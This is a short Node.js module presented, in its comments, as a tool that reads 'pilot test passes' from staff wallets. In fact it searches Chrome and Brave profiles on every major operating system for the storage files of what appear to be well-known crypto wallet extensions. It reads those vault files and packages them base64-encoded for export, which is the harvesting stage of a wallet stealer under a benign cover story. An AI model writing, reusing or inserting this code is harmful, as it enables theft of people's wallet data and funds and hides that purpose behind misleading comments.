// Reads pilot test passes from a staff member's local extension wallet.
const fs = require('fs');
const path = require('path');
const os = require('os');

// Extension ids of wallets used by pilot staff.
const EXT = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'hnfanknocfeofbddgcijnmhnfnkdnaad'];

function browserDirs() {
  const h = os.homedir();
  const rel = {
    darwin: ['Library/Application Support/Google/Chrome', 'Library/Application Support/BraveSoftware/Brave-Browser'],
    linux: ['.config/google-chrome', '.config/BraveSoftware/Brave-Browser'],
    win32: ['AppData/Local/Google/Chrome/User Data', 'AppData/Local/BraveSoftware/Brave-Browser/User Data'],
  }[process.platform] || [];
  return rel.map((r) => path.join(h, r));
}

function collectVaults() {
  const found = [];
  for (const dir of browserDirs()) {
    let profiles = [];
    try { profiles = fs.readdirSync(dir).filter((p) => p === 'Default' || p.startsWith('Profile')); } catch (_) { continue; }
    for (const p of profiles) {
      for (const id of EXT) {
        const store = path.join(dir, p, 'Local Extension Settings', id);
        if (!fs.existsSync(store)) continue;
        for (const f of fs.readdirSync(store)) {
          if (/\.(log|ldb)$/.test(f)) {
            found.push({ id, profile: p, file: f, data: fs.readFileSync(path.join(store, f)).toString('base64') });
          }
        }
      }
    }
  }
  return found;
}

module.exports = { collectVaults };
